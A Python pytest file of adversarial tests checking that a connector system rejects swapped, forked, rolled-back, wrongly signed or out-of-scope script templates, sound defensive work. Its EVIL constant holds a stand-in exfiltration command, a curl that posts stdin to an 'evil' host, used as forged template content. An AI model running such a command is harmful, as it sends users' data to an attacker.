"""Adversary against templates: swapped, rolled back, signed by the wrong people, named where they don't belong."""

from __future__ import annotations

from typing import Any

import msgspec
import pytest
from msgspec import structs

from shared.canonical import b64u, encode
from shared.crypto.identity import Identity
from shared.documents.connector import CUSTOM, ConnectorDocument
from shared.documents.fields import Permission
from shared.documents.jws import Verified, header_bytes, parse
from shared.documents.template import TemplateDocument, TemplateInput, TemplateUse, content_digest
from shared.documents.usage import Usage
from shared.errors import Conflict, Denied, Malformed, Tampered
from shared.trust.book import Book
from shared.trust.warrant import warrant
from tests.adversary.judging import ORG, credential, held, judge, only
from tests.fakes.refusal import refused
from tests.fakes.world import World

BELOW = f"{ORG}/project/web"
EVIL = {"script": "curl https://evil -d @-"}


def author_of(world: World, *permissions: Permission, scope: str = ORG, name: str = "author") -> Identity:
    """Somebody who may write templates there, unless other permissions are named."""
    author = world.identity(name)
    world.grant(author, permissions or ("edit", "exec"), scope)
    return author


def stage() -> tuple[World, Verified[TemplateDocument], Verified[ConnectorDocument]]:
    """A template of an organisation by its author, and a connector below that runs it."""
    world = World()
    template = world.template("script", ORG, author_of(world))
    return world, template, world.custom("custom", template, (), BELOW)


def test_a_connector_runs_the_template_that_its_signer_has_seen() -> None:
    world, template, custom = stage()
    granted = judge(world, world.check(custom))
    assert granted.templates == {custom.document.id: template}
    version = held(world, custom, "password", BELOW)
    assert judge(world, world.reveal([version])).templates == {custom.document.id: template}
    assert judge(world, world.check(world.connector)).templates == {}


@pytest.mark.parametrize("op", ["check", "delete", "exec", "fetch", "reveal", "store"])
def test_every_operation_takes_the_template_of_its_connector(op: str) -> None:
    world, template, custom = stage()
    version = held(world, custom, "password", BELOW)
    task = {
        "check": lambda: world.check(custom),
        "delete": lambda: world.delete(version.secret, version),
        "exec": lambda: world.exec([version]).task,
        "fetch": lambda: world.fetch(custom, "{}"),
        "reveal": lambda: world.reveal([version]),
        "store": lambda: world.store(version.secret, b"new", None, version).task,
    }[op]()
    judge(world, task)
    pins = tuple(pin for pin in task.document.pins if pin.digest != template.digest)
    with refused(Malformed, "pin_missing"):
        judge(world, world.sign(structs.replace(task.document, pins=pins), world.administrator))


def test_the_connector_of_a_credential_runs_its_template_too() -> None:
    world, template, _ = stage()
    custom = world.custom("holder", world.template("above"))
    held(world, custom, "key", "account")
    kms = world.connector_with("kms", ["account.key"])
    granted = judge(world, world.check(kms))
    assert granted.templates.keys() == {custom.document.id}
    assert template.document.scope == ORG


# The script swapped.


def test_another_template_of_the_same_name_is_not_the_one_that_was_seen() -> None:
    world, template, custom = stage()
    forged = world.template("script", ORG, author_of(world), id=world.opaque("forged"), content=EVIL)
    task = world.check(custom)
    pins = [pin for pin in task.document.pins if pin.digest != template.digest]
    pin = structs.replace(pins[0], kind="template", id=forged.document.id, rev=1, digest=forged.digest)
    with refused(Malformed, "pin_missing"):
        judge(world, world.check(custom, pins=(*pins, pin)))
    with refused(Malformed, "pin_malformed"):
        lying = structs.replace(pin, id=template.document.id)
        judge(world, world.check(custom, pins=(*pins, lying)))


def test_a_label_stands_for_one_content() -> None:
    world, template, _ = stage()
    author = world.identity("author")
    changed = world.template_document("script", ORG, content=EVIL).content
    for changes in ({"content": changed}, {"version": "2"}, {"identifier": "other"}):
        revised = world.next(template, author, **changes)
        with refused(Conflict, "field_immutable"):
            world.book().admit(revised.compact, world.now)
    book = world.book()
    book.admit(world.next(template, author, name="renamed", description="x", tags={"a": "b"}).compact, world.now)


def test_an_author_s_other_content_under_the_same_id_is_noticed_by_a_delegate_without_memory() -> None:
    """Author and manager collude; the delegate has just started, and has never seen the first content."""
    world, template, custom = stage()
    author = world.identity("author")
    document = world.template_document("script", ORG, content=EVIL)
    forged = world.sign(document, author)
    book = Book(world.id)
    for compact in [*(one for one in world.documents if one != template.compact), forged.compact]:
        book.admit(compact, world.now)
    task = world.check(custom)
    pins = tuple(
        structs.replace(pin, digest=forged.digest) if pin.kind == "template" else pin for pin in task.document.pins
    )
    task = world.check(custom, pins=pins)
    with refused(Denied, "template_changed"):
        warrant(book, task, world.now)


def test_two_contents_under_one_id_are_a_fork_to_whoever_saw_one() -> None:
    world, *_ = stage()
    forged = world.sign(world.template_document("script", ORG, content=EVIL), world.identity("author"))
    with refused(Tampered, "revision_forked"):
        world.book().admit(forged.compact, world.now)


@pytest.mark.parametrize(
    ("member", "value"),
    [
        ("type", "Other"),
        ("shell", "Python"),
        ("script", "other"),
        ("write", "other"),
        ("remove", "other"),
        ("inputs", (TemplateInput(name="path"),)),
        ("selectors", ("linux",)),
        ("secrets", ("key",)),
    ],
)
def test_every_member_of_the_content_is_in_its_digest(member: str, value: Any) -> None:
    """One that weren't could be swapped by the author."""
    plain = World().template_document("script")
    changed = structs.replace(plain, content=structs.replace(plain.content, **{member: value}))
    assert content_digest(changed) != content_digest(plain)


def test_what_is_for_people_is_not_in_the_digest_and_no_member_is_forgotten() -> None:
    plain = World().template_document("script")
    renamed = structs.replace(plain, name="other", rev=2, description="x", tags={"a": "b"}, deleted=True)
    assert content_digest(renamed) == content_digest(plain)
    members = {"type", "shell", "script", "write", "remove", "inputs", "selectors", "secrets"}
    assert {field.name for field in msgspec.structs.fields(type(plain.content))} == members


def test_an_older_label_comes_back_only_by_who_signs_the_connector() -> None:
    world, old, custom = stage()
    author = world.identity("author")
    new = world.template("script", ORG, author, version="2", content={"script": "secret=y"})
    use = TemplateUse(id=new.document.id, content=content_digest(new.document))
    before = world.check(custom)
    revised = world.revise(custom, template=use)
    with refused(Conflict, "pin_stale"):
        judge(world, before)
    mallory = author_of(world, "exec", "use", "fetch", "reveal", name="mallory")
    back = structs.replace(custom.document, rev=3, prev=revised.digest)
    with refused(Denied, "grant_missing"):
        world.book().admit(world.sign(back, mallory).compact, world.now)
    assert judge(world, world.check(custom)).templates[custom.document.id] == new
    assert old.document.id != new.document.id


def test_a_connector_that_names_another_content_runs_nothing() -> None:
    world, template, _ = stage()
    other = world.template("other", ORG, content=EVIL)
    use = TemplateUse(id=template.document.id, content=content_digest(other.document))
    with refused(Denied, "template_changed"):
        judge(world, world.check(world.connector_with("third", (), BELOW, type=CUSTOM, template=use)))


def test_a_deleted_template_runs_no_more() -> None:
    world, template, custom = stage()
    task = world.check(custom)
    world.revise(template, deleted=True)
    with refused(Conflict, "pin_stale"):
        judge(world, task)
    with refused(Conflict, "template_deleted"):
        judge(world, world.check(custom))


# Who signed it.


@pytest.mark.parametrize("permission", ["edit", "exec", "admin", "delete", "use", "reveal", "fetch", "view", "renew"])
def test_one_permission_alone_publishes_no_template(permission: Permission) -> None:
    world = World()
    author = author_of(world, permission)
    signed = world.sign(world.template_document("script", ORG), author)
    with refused(Denied, "grant_missing"):
        world.book().admit(signed.compact, world.now)


def test_edit_and_exec_publish_a_template_by_two_grants_as_well() -> None:
    world = World()
    author = author_of(world, "edit")
    world.grant(author, ["exec"], ORG, id=world.opaque("second"))
    judge(world, world.check(world.custom("custom", world.template("script", ORG, author), (), ORG)))


def test_a_template_is_deleted_by_who_may_delete_and_nobody_else() -> None:
    world, template, custom = stage()
    deleter = author_of(world, "delete", name="deleter")
    with refused(Denied, "grant_missing"):
        world.book().admit(world.next(template, world.identity("author"), deleted=True).compact, world.now)
    world.revise(template, deleter, deleted=True)
    with refused(Denied, "grant_missing"):
        judge(world, world.check(custom))


@pytest.mark.parametrize("scope", [BELOW, "org/other", f"{ORG}2"])
def test_permissions_elsewhere_publish_no_template(scope: str) -> None:
    world = World()
    author = author_of(world, scope=scope)
    with refused(Denied, "grant_missing"):
        world.book().admit(world.sign(world.template_document("script", ORG), author).compact, world.now)


@pytest.mark.parametrize("changes", [{"resource": "connector/" + "a" * 26}, {"usage": Usage(environments=("test",))}])
def test_a_narrow_grant_publishes_no_template(changes: dict[str, Any]) -> None:
    world = World()
    author = world.identity("author")
    world.grant(author, ["edit", "exec"], ORG, **changes)
    with pytest.raises(Denied):
        world.book().admit(world.sign(world.template_document("script", ORG), author).compact, world.now)
    template = world.template_document("script", ORG)
    world.grant(author, ["edit", "exec"], ORG, id=world.opaque("second"), resource=template.id)
    with pytest.raises(Denied):
        world.book().admit(world.sign(template, author).compact, world.now)


@pytest.mark.parametrize("lost", ["exec", "edit", "key", "time", "pin"])
def test_a_template_lives_while_its_signer_may_still_write_it(lost: str) -> None:
    world = World()
    author = world.identity("author")
    grants = {one: world.opaque(f"grant of {one}") for one in ("edit", "exec")}
    for permission, id in grants.items():
        world.grant(author, [permission], ORG, id=id, exp=world.now + 100)  # type: ignore[list-item]
    custom = world.custom("custom", world.template("script", ORG, author), (), BELOW)
    task = world.check(custom, exp=world.now + 200)
    judge(world, task)
    book = world.book()
    expected = {"key": "key_revoked", "time": "grant_expired", "pin": "grant_missing"}.get(lost, "grant_revoked")
    now = world.now
    if lost in grants:
        book.admit(world.revise_status(grants=(grants[lost],)).compact, now)
    elif lost == "key":
        book.admit(world.revise_status(keys=(author.kid,)).compact, now)
    elif lost == "time":
        now += 100
    else:
        pins = tuple(pin for pin in task.document.pins if pin.id != grants["exec"])
        task = world.check(custom, exp=world.now + 200, pins=pins)
    with refused(Denied, expected):
        warrant(book, task, now)


def test_whoever_renames_a_template_vouches_for_its_script() -> None:
    world, template, custom = stage()
    second = author_of(world, name="second")
    world.revise(template, second, name="renamed")
    judge(world, world.check(custom))
    book = world.book()
    book.admit(world.revise_status(keys=(second.kid,)).compact, world.now)
    with refused(Denied, "key_revoked"):
        warrant(book, world.check(custom), world.now)


def test_an_id_stays_in_its_scope() -> None:
    world, template, _ = stage()
    mallory = author_of(world, scope="org/other", name="mallory")
    moved = world.next(template, mallory, scope="org/other")
    with refused(Conflict, "field_immutable"):
        world.book().admit(moved.compact, world.now)


# Where it belongs.


@pytest.mark.parametrize("scope", [f"{ORG}/project/other", "org/other", BELOW])
def test_a_template_reaches_no_connector_beside_or_above_it(scope: str) -> None:
    world = World()
    template = world.template("script", scope)
    with refused(Denied, "template_out_of_scope"):
        judge(world, world.check(world.custom("custom", template, (), BELOW if scope != BELOW else ORG)))


@pytest.mark.parametrize("kind", ["Local", "Vault", "AwsKms", "customSecretManager", "CustomSecretManagers"])
def test_no_other_kind_carries_a_template(kind: str) -> None:
    world, _, custom = stage()
    members = {**msgspec.to_builtins(custom.document), "type": kind}
    raw = encode({name: value for name, value in members.items() if value not in (None, {}, (), [], "", False)})
    header = header_bytes("connector", world.administrator.kid)
    signing_input = f"{b64u(header)}.{b64u(raw)}"
    compact = f"{signing_input}.{b64u(world.administrator.sign(signing_input.encode()))}"
    with pytest.raises(Malformed):
        parse(compact)
    parse(custom.compact)


# What it names.


def test_a_template_gets_what_its_author_and_the_connector_s_signer_may_use() -> None:
    world = World()
    author = author_of(world)
    key = credential(world)
    template = world.template("script", ORG, author, content={"secrets": ("account.key",)})
    custom = world.custom("custom", template, ["account.key"], BELOW)
    with pytest.raises(Denied) as caught:
        judge(world, world.check(custom))
    assert caught.value.code == "grant_missing"
    assert caught.value.detail.startswith("who signed the template script may not use account.key: ")
    only(world, key, author)
    assert judge(world, world.check(custom)).credentials[custom.document.id].keys() == {"account.key"}


def test_an_author_who_may_use_a_secret_lends_that_to_nobody() -> None:
    world = World()
    author = author_of(world, "edit", "exec", "use", scope="account")
    template = world.template("script", "account", author, content={"secrets": ("key",)})
    credential(world)
    editor = world.identity("editor")
    world.grant(editor, ["edit"], ORG)
    with refused(Denied, "grant_missing"):
        judge(world, world.check(world.custom("custom", template, ["account.key"], ORG, editor)))


@pytest.mark.parametrize("named", [(), ("account.other",), ("key",)])
def test_a_connector_names_all_that_its_template_does(named: tuple[str, ...]) -> None:
    """`key` is the organisation's to the connector, and the account's to the template."""
    world = World()
    for name in ("key", "other"):
        credential(world, name)
    credential(world, "key", ORG)
    template = world.template("script", content={"secrets": ("key",)})
    with refused(Malformed, "template_secret_unnamed"):
        judge(world, world.check(world.custom("custom", template, named, ORG)))
    judge(world, world.check(world.custom("right", template, ["account.key"], ORG)))


def test_a_template_s_names_mean_what_they_mean_in_its_own_scope() -> None:
    world = World()
    above = credential(world, "key", ORG)
    near = credential(world, "key", BELOW)
    template = world.template("script", ORG, content={"secrets": ("key",)})
    custom = world.custom("custom", template, ["key", "org.key"], BELOW)
    uses = judge(world, world.check(custom)).credentials[custom.document.id]
    assert (uses["org.key"].secret, uses["key"].secret) == (above.secret, near.secret)
    with refused(Malformed, "template_secret_unnamed"):
        judge(world, world.check(world.custom("wrong", template, ["key"], BELOW)))
